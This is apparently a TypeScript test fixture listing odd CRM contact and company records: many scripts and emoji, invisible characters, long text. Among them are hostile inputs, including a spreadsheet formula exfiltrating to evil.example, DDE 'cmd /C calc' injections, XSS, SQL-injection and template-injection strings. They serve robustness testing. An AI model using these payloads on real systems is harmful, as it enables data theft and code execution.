/** What differs from an ordinary contact; an empty text unsets. */
export type Oddity = Readonly<Record<string, string>>

const LONG_NAME =
  'María del Rosario Cayetana Alfonsa Victoria Eugenia Francisca Fitz-James Stuart y de Silva Falcó y Gurtubay de las Altas Torres'

/**
 * What people, imports and forms really leave in a CRM: names of other scripts and directions, texts that a
 * spreadsheet would run as a formula, markup, emoji, invisible characters, stray spaces, and a lot of text.
 * None of it may break a client, and none of it may be lost by one.
 */
export const ODD_PEOPLE: readonly Oddity[] = [
  { firstname: 'محمد', lastname: 'بن عبد الله الزهراني', jobtitle: 'مدير المشتريات', city: 'جدة' },
  {
    firstname: '=HYPERLINK("https://evil.example/?c="&A1,"Open me")',
    lastname: 'Import',
    jobtitle: '@SUM(1+1)',
  },
  {
    firstname: '<img src=x onerror=alert(1)>',
    lastname: '<b>Bold</b>',
    company: '"><script>alert(1)</script>',
  },
  { firstname: '👩🏽‍💻 Zoë', lastname: '🏴󠁧󠁢󠁳󠁣󠁴󠁿 MacLeod', company: '🦊 Fox & Sons' },
  { firstname: 'An\u200bna', lastname: 'Schmidt\u200d\ufeff', jobtitle: 'Buyer \u202etxt.exe\u202c' },
  {
    firstname: LONG_NAME,
    lastname: 'Martínez de Irujo y Artázcoz',
    jobtitle: `Head of ${'everything, '.repeat(40)}etc.`,
  },
  { firstname: 'דוד', lastname: 'לוי', jobtitle: 'מנהל רכש', city: 'חיפה' },
  { firstname: '+1 555 0100', lastname: '-2+3+cmd|" /C calc"!A0', jobtitle: '\t=1+1' },
  { firstname: '  Maria ', lastname: 'da  Silva\u00a0', company: ' ' },
  { firstname: 'null', lastname: 'undefined', company: 'NaN', jobtitle: 'true' },
  { firstname: 'Sukarno', lastname: '', jobtitle: '' },
  { firstname: 'สมชาย', lastname: 'ใจดี', city: 'กรุงเทพฯ' },
  {
    firstname: 'Robert"); DROP TABLE contacts;--',
    lastname: "O'Reilly \\ Söhne",
    company: '100% `of` $HOME',
  },
  { firstname: '𠮷', lastname: '田中𩸽', jobtitle: '営業部長' },
  { firstname: 'Jose\u0301', lastname: 'Nu\u0301n\u0303ez', jobtitle: 'Written with combining marks' },
  { firstname: 'Z̸̢̛a̷̡͝l̴̨̕g̵̢͘ơ̶̧', lastname: 'H̷E̴ ̵C̶O̷M̸E̴S̵' },
  { firstname: '007', lastname: '1e5', jobtitle: '1/2', zip: '01067', phone: '0049 (0)351 – 4 98 77' },
  { firstname: '{{constructor.constructor("return 1")()}}', lastname: '${7*7}', jobtitle: '%s%n %00' },
  {
    address: '4th floor, left\nRing "Harbour"\r\nNot before 9',
    message: 'Please call.\n\n— sent from my phone',
  },
  { firstname: 'ქეთევან', lastname: 'ბერიძე', city: 'თბილისი' },
  { firstname: 'ገብረ', lastname: 'ሥላሴ', city: 'አዲስ አበባ' },
  { message: 'A long letter, pasted into one field. '.repeat(1_600), jobtitle: 'Correspondent' },
  { firstname: 'அருள்', lastname: 'முருகன்', city: 'மதுரை' },
  { firstname: 'A', lastname: 'B', company: 'C' },
]

/** Texts of the same kinds for companies. */
export const ODD_COMPANIES: readonly Oddity[] = [
  { name: '=2+5+cmd|" /C calc"!A0', description: '@SUM(A1:A9)' },
  { name: '<svg onload=alert(1)> Holding', website: 'javascript:alert(1)' },
  { name: 'شركة الميناء للتجارة', description: 'استيراد وتصدير منذ ١٩٧٢' },
  { description: 'The whole “About us” page, pasted. '.repeat(400) },
  { name: '', description: 'Nobody ever filled in the name; there is a domain.' },
  { name: '🚢🚢🚢 Ships!', industry: '' },
  { name: 'Hafen\u00adkontor \u200bGmbH\u2028& Co.', city: '' },
  { name: '株式会社港湾', description: '' },
  { name: 'A'.repeat(240), domain: `${'a'.repeat(60)}.example` },
]
